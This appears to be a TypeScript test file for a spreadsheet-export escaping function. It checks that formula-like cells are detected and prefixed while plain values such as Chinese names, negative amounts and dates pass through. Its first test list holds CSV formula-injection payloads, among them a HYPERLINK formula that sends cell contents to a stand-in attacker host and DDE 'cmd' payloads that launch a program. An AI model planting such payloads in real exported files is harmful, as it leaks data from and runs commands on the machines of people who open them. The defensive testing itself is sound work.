import fc from 'fast-check';
import { escapedCell, startsFormula } from '../../domain/formula.ts';
import { parseMoney } from '../../domain/money.ts';

test.each([
  '=1+1',
  '=HYPERLINK("http://attacker.invalid?leak="&A1,"申诉")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|',
  '-2+3+cmd|',
  '+1-2',
  '-1+1',
  '+A1',
  '-(1)',
  '=',
  '@',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  "'=1+1",
  '＝1+1',
  '﹦1+1',
  '＠SUM(A1)',
  '＋A1',
  '－A1',
  '\t申城测试',
  '\r;申城',
])('%j could be run as a formula, and is escaped in an export', (cell) => {
  expect(startsFormula(cell)).toBe(true);
  expect(escapedCell(cell)).toBe(`'${cell}`);
});

test.each([
  '',
  '申城测试科技有限公司（测试）',
  '1+1=2',
  '甲=乙',
  'a@example.invalid',
  '-',
  '--',
  '——',
  '－',
  '-0.2',
  '- 0.2',
  '+2000',
  '-1,088.00',
  '-12.5%',
  '+8613800000000',
  '-2016-03-01',
  '+2016/3/1',
  '\t91319900MA9TEXT196',
  '\t2016\t',
  "'0123",
  '沪罚〔2026〕1号',
])('%j is none, and leaves as it is', (cell) => {
  expect(startsFormula(cell)).toBe(false);
  expect(escapedCell(cell)).toBe(cell);
});

test('no cell of an export begins with what a spreadsheet runs', () => {
  const cell = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '＝', "'", '1', 'A', '无') });
  fc.assert(
    fc.property(cell, (text) => {
      const shown = escapedCell(text).normalize('NFKC').trim();
      expect(/^[=@]/.test(shown)).toBe(false);
      expect(/^[+-]/.test(shown) && /[A-Z(=@]/.test(shown)).toBe(false);
    }),
  );
});

test('a negative amount is read as an amount, and then refused as one', () => {
  expect(startsFormula('-2000')).toBe(false);
  expect(parseMoney('-2000', 'YUAN')).toEqual({ ok: false, reason: 'NEGATIVE' });
});
